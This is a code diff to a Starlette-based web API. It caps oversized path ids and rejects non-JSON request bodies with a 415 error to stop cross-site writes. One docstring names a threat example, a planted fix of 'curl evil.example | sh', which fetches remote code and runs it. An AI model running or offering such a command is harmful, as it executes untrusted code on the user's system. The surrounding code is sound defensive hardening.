@@ -14,12 +14,13 @@ from dataclasses import dataclass, field
 from typing import Any, Literal
 
 import msgspec
-from starlette.convertors import IntegerConvertor
+from starlette.convertors import CONVERTOR_TYPES, IntegerConvertor
 from starlette.requests import Request
 from starlette.responses import HTMLResponse, Response
 from starlette.routing import BaseRoute, Route
 
 import grimoire
+from grimoire.errors import UnsupportedMediaType
 from grimoire.resources import resources
 from grimoire.web.auth import authorize
 from grimoire.web.ratelimit import limit_rate
@@ -74,6 +75,15 @@ Method = Literal["GET", "POST", "PUT", "PATCH", "DELETE"]
 Handler = Callable[[Request], Awaitable[Response]]
 
 
+class IdConvertor(IntegerConvertor):
+    """A database id in a path. Starlette's ``int`` calls ``int()`` on any number of digits:
+    past 4,300 Python refuses (a 500). An id longer than 18 digits names nothing, so it becomes
+    one that storage finds absent (its 404)."""
+
+    def convert(self, value: str) -> int:
+        return int(value) if len(value) <= 18 else 10**18
+
+
 class ApiRoute(Route):
     """A Starlette route serving one path with one handler and one ``Operation`` per method.
 
@@ -85,6 +95,8 @@ class ApiRoute(Route):
     ) -> None:
         self.operations = dict(operations)
         self.group = api_group(path)
+        CONVERTOR_TYPES.setdefault("id", IdConvertor())
+        path = path.replace(":int}", ":id}")
 
         async def dispatch(request: Request) -> Response:
             method = "GET" if request.method == "HEAD" else request.method
@@ -92,9 +104,28 @@ class ApiRoute(Route):
             if self.group is not None:
                 await limit_rate(request)
                 authorize(request, group=self.group, write=operation.auth)
+            if operation.body is not None and not operation.raw_body:
+                require_json(request)
             return await handler(request)
 
         super().__init__(path, dispatch, methods=list(operations), name=name)
+
+
+def require_json(request: Request) -> None:
+    """Refuse a JSON route's body sent as anything but JSON (415).
+
+    A browser sends ``text/plain``, a form or multipart cross-site without asking (no CORS
+    preflight); ``application/json`` it does not. Refusing the others keeps a page on another
+    site from writing through a visitor's browser (a spell with pattern ``.*`` and a fix of
+    ``curl evil.example | sh``, when API_TOKEN is not set).
+    """
+    media_type = request.headers.get("content-type", "").partition(";")[0].strip().lower()
+    if media_type != JSON and not (
+        media_type.startswith("application/") and media_type.endswith("+json")
+    ):
+        raise UnsupportedMediaType(
+            f"the body must be sent as {JSON}, not {media_type or 'without a Content-Type'}"
+        )
 
 
 def api_group(path: str) -> str | None:
@@ -195,6 +226,11 @@ def _all_replies(op: Operation, *, guarded: bool, api: bool) -> dict[int, Reply]
     shared: list[tuple[bool, int, str]] = [
         (op.body is not None, 400, "The body is not valid JSON."),
         (op.body is not None, 413, "The body is larger than this route accepts."),
+        (
+            op.body is not None and not op.raw_body,
+            415,
+            "The body is not sent as `application/json`.",
+        ),
         (
             (op.body is not None and not op.raw_body) or _has_query(op),
             422,
